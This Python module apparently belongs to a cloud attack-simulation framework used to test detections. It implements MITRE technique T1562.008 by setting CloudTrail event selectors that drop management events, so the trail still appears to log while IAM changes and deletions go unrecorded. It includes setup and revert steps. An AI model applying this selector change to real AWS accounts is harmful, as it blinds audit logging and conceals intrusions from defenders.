"""Disable CloudTrail logging through event selectors that leave out management events."""

from __future__ import annotations

from cloudsoc.aws.session import client
from cloudsoc.simulate.technique import Ctx, Json, Technique, technique
from cloudsoc.simulate.techniques.defense_evasion._trail import make_trail, remove_trail

# Read-only data events only: the trail keeps "logging" but records no management call at all.
BLINDING_SELECTORS = [
    {
        "ReadWriteType": "ReadOnly",
        "IncludeManagementEvents": False,
        "DataResources": [
            {"Type": "AWS::S3::Object", "Values": []},
            {"Type": "AWS::Lambda::Function", "Values": []},
        ],
    }
]


@technique
class CloudTrailEventSelectors(Technique):
    title = "Disable CloudTrail logging through event selectors"
    attack = ("T1562.008",)
    expects = ("cloudtrail_event_selectors_weakened",)
    description = (
        "Puts an event selector on the account's trail that excludes management events, so the trail "
        "still reports as logging while IAM changes, deletions and new keys go unrecorded."
    )

    def warmup(self, ctx: Ctx) -> Json:
        return make_trail(ctx, "management-events")

    def detonate(self, ctx: Ctx, state: Json) -> None:
        ct = client("cloudtrail", session=ctx.attacker())
        ct.get_event_selectors(TrailName=state["trail"])
        ct.put_event_selectors(TrailName=state["trail"], EventSelectors=BLINDING_SELECTORS)

    def revert(self, ctx: Ctx, state: Json) -> None:
        remove_trail(ctx, state)
